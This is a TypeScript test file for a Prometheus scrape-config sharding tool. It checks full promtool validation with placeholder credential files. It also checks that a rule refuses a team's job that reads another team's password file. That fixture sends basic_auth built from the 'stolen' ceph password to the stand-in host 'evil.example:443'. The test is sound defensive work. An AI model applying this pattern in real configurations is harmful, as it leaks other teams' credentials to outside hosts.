// Production mode: the full `promtool check config` (not --syntax-only) checks that referenced
// credential files exist. Here the example repository's secrets_root points at a temp directory in
// which every referenced file is really created, so the full check runs as on a real Prometheus host.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { readRepositoryFromDirectory } from '../../core/repository/repository-source.ts';
import { compileRepository } from '../../core/compiler/compile-repository.ts';
import { ALL_RULES } from '../../ci/rules/index.ts';
import { renderPrometheusConfig } from '../../core/render/render-prometheus-config.ts';
import { credentialFileValues } from '../../ci/rules/credential-path.ts';
import { PROMTOOL_BIN } from '../support/prometheus.ts';
import { compileFiles, BASIC_SHARDS_YAML } from '../support/repo-fixture.ts';

const EXAMPLE = fileURLToPath(new URL('../../scrape-configs', import.meta.url));
const DEFAULT_ROOT = '/etc/prometheus/secrets';

function promtoolFull(file: string) {
  const r = spawnSync(PROMTOOL_BIN, ['check', 'config', file], { encoding: 'utf8' });
  return { ok: r.status === 0, out: `${r.stdout}${r.stderr}` };
}

function promtoolKnowsKubernetes(dir: string): boolean {
  writeFileSync(join(dir, 'k8s-probe.yml'), 'scrape_configs:\n  - job_name: k\n    kubernetes_sd_configs:\n      - role: pod\n');
  return spawnSync(PROMTOOL_BIN, ['check', 'config', '--syntax-only', join(dir, 'k8s-probe.yml')]).status === 0;
}

/** The example repository copied to `dir/repo`, with secrets_root (and every path under it) moved to `root`. */
function exampleWithSecretsRoot(dir: string, root: string): string {
  const repo = join(dir, 'repo');
  cpSync(EXAMPLE, repo, { recursive: true });
  const move = (file: string) => writeFileSync(file, readFileSync(file, 'utf8').split(DEFAULT_ROOT).join(root));
  for (const t of readdirSync(join(repo, 'teams'))) for (const f of readdirSync(join(repo, 'teams', t))) move(join(repo, 'teams', t, f));
  const shards = join(repo, 'shards.yaml');
  move(shards);
  if (!/^secrets_root:/m.test(readFileSync(shards, 'utf8'))) writeFileSync(shards, `secrets_root: ${root}\n${readFileSync(shards, 'utf8')}`);
  return repo;
}

test('example repository with real secret files under a custom secrets_root passes the full promtool check', () => {
  const dir = mkdtempSync(join(tmpdir(), 'promshard-secrets-'));
  try {
    const root = join(dir, 'secrets');
    const c = compileRepository(readRepositoryFromDirectory(exampleWithSecretsRoot(dir, root)), { rules: ALL_RULES });
    assert.equal(c.valid, true, JSON.stringify(c.findings, null, 1));
    assert.equal(c.model!.secretsRoot, root);
    let created = 0;
    for (const shard of c.model!.shards) {
      for (const job of shard.jobs) {
        for (const { value } of credentialFileValues(job.spec)) {
          assert.ok(value.startsWith(`${root}/${job.team}/`), `${job.name}: ${value}`);
          mkdirSync(dirname(value), { recursive: true });
          writeFileSync(value, 'not-a-real-secret\n', { mode: 0o600 });
          created++;
        }
      }
    }
    assert.ok(created >= 10, `only ${created} credential files referenced by the example`);
    const k8s = promtoolKnowsKubernetes(dir);
    for (const shard of c.model!.shards) {
      // Debian's promtool cannot parse kubernetes_sd_configs; those jobs' shape is covered in render-shards.test.ts.
      const text = renderPrometheusConfig(k8s ? shard : { ...shard, jobs: shard.jobs.filter((j) => !j.spec.discovery?.kubernetes) });
      const file = join(dir, `${shard.name}.yml`);
      writeFileSync(file, text);
      const r = promtoolFull(file);
      assert.ok(r.ok, `promtool refused shard ${shard.name}:\n${r.out}`);
    }
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test("another team's existing secret file: promtool accepts the rendered job, promshard refuses the repository", () => {
  const dir = mkdtempSync(join(tmpdir(), 'promshard-secrets-'));
  try {
    const root = join(dir, 'secrets');
    const stolen = join(root, 'storage', 'ceph.password');
    mkdirSync(dirname(stolen), { recursive: true });
    writeFileSync(stolen, 'storage-only\n', { mode: 0o600 });
    const job = (path: string) =>
      `team: netops\nshard: networking\njobs:\n  - name: a\n    scheme: https\n    targets: ["evil.example:443"]\n    basic_auth: { username: u, password_file: ${path} }\n`;
    const shards = `secrets_root: ${root}\n${BASIC_SHARDS_YAML}`;
    // Rendered from a model built without the rule's verdict: what would reach Prometheus, and promtool is content with it.
    const c = compileFiles({ 'shards.yaml': shards, 'teams/netops/a.yaml': job(stolen) });
    const file = join(dir, 'p.yml');
    writeFileSync(file, renderPrometheusConfig(c.model!.shards.find((s) => s.name === 'networking')!));
    assert.equal(promtoolFull(file).ok, true);
    assert.equal(c.valid, false);
    assert.deepEqual(
      c.findings.filter((f) => f.severity === 'error').map((f) => `${f.ruleId} ${f.start.line}:${f.start.column}`),
      ['credential-path 7:47'],
    );
    // The same job with netops's own file is valid.
    const own = join(root, 'netops', 'pw');
    mkdirSync(dirname(own), { recursive: true });
    writeFileSync(own, 'netops\n', { mode: 0o600 });
    assert.equal(compileFiles({ 'shards.yaml': shards, 'teams/netops/a.yaml': job(own) }).valid, true);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
